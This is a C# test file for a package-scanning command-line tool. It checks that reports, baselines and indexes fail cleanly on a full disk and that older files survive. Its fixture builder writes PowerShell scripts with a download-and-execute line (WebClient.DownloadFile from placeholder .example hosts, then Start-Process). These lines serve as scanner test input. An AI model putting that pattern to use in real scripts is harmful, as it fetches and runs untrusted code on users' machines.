using Assay.TestInputs;

namespace Assay.Cli.Tests;

/// <summary>On a full disk every command ends with one line and its code, an older file stays, and nothing is left beside it.</summary>
public sealed class FullDiskTests : IDisposable
{
    // Blocks of 512 bytes (POSIX, ulimit -f): files may not grow beyond 8 KiB. Ignored, the signal that comes with it becomes an error of the write, as on a full disk.
    private const string SmallFiles = "trap '' XFSZ; ulimit -f 16;";

    // The runtime keeps its code in a file in memory, which would not fit either.
    private static readonly Dictionary<string, string> WithoutCodeFile = new(StringComparer.Ordinal) { ["DOTNET_EnableWriteXorExecute"] = "0" };

    private readonly string _folder = Directory.CreateTempSubdirectory("assay-full-").FullName;

    public FullDiskTests() => Assert.SkipUnless(OperatingSystem.IsLinux(), "The size of files is limited with ulimit, and /dev/full is Linux's.");

    [Theory]
    [InlineData("json")]
    [InlineData("html")]
    [InlineData("sarif")]
    [InlineData("cyclonedx")]
    [InlineData("spdx")]
    [InlineData("csv")]
    public async Task A_report_that_does_not_fit_leaves_the_old_one(string format) => await FailsAsync("report", ["scan", Package(), "-q", "--no-config", "-o", $"{format}={Path.Combine(_folder, "report")}"]);

    [Fact]
    public async Task A_baseline_that_does_not_fit_leaves_the_old_one() => await FailsAsync("report", ["baseline", "create", Package(), "--no-config", "-o", Path.Combine(_folder, "report")]);

    [Theory]
    [InlineData("--format", "json")]
    [InlineData("--format", "sarif")]
    [InlineData("--all")]
    public async Task Standard_output_that_is_full_is_said(params string[] form)
    {
        var (exitCode, _, error) = await AssayProcess.RunAsync(AssayProcess.Describe("", ["scan", Package(), "--no-config", .. form], output: "/dev/full"));

        Assert.True(exitCode == ExitCode.Usage, $"{exitCode}: {error}");
        Assert.Contains("assay: standard output cannot be written", error, StringComparison.Ordinal);
        Assert.DoesNotContain("internal error", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_index_that_does_not_fit_is_said()
    {
        var index = Path.Combine(_folder, "index.db");
        var (exitCode, _, error) = await AssayProcess.RunAsync(AssayProcess.Describe(SmallFiles, ["community", "build", "--from", Path.GetDirectoryName(Package())!, "--name", "ours", "--index", index], WithoutCodeFile));

        Assert.True(exitCode == ExitCode.Usage, $"{exitCode}: {error}");
        Assert.DoesNotContain("internal error", error, StringComparison.Ordinal);
        Assert.Empty(Directory.GetFiles(_folder, ".*.tmp"));
    }

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    private async Task FailsAsync(string name, string[] arguments)
    {
        await File.WriteAllTextAsync(Path.Combine(_folder, name), "old", TestContext.Current.CancellationToken);
        var (exitCode, _, error) = await AssayProcess.RunAsync(AssayProcess.Describe(SmallFiles, arguments, WithoutCodeFile));

        Assert.True(exitCode == ExitCode.Usage, $"{exitCode}: {error}");
        Assert.DoesNotContain("internal error", error, StringComparison.Ordinal);
        Assert.Single(error.Split('\n', StringSplitOptions.RemoveEmptyEntries), line => line.Contains("cannot be written", StringComparison.Ordinal));
        Assert.Equal("old", await File.ReadAllTextAsync(Path.Combine(_folder, name), TestContext.Current.CancellationToken));
        Assert.Equal(["packages", name], Directory.GetFileSystemEntries(_folder).Select(Path.GetFileName).Order(StringComparer.Ordinal));
    }

    // With enough in it for every form to be larger than what fits.
    private string Package()
    {
        var folder = Directory.CreateDirectory(Path.Combine(_folder, "packages")).FullName;
        var path = Path.Combine(folder, "sample.nupkg");
        var package = new NupkgBuilder();
        for (var i = 0; i < 200; i++)
        {
            package.Add($"lib/net8.0/{i}.txt", "text" + i).Add($"tools/{i}.ps1", $"iex 'Get-Item {i}'; (New-Object Net.WebClient).DownloadFile('http://h{i}.example/{i}.exe', 'a.exe'); Start-Process a.exe");
        }

        File.WriteAllBytes(path, package.Build());
        return path;
    }
}
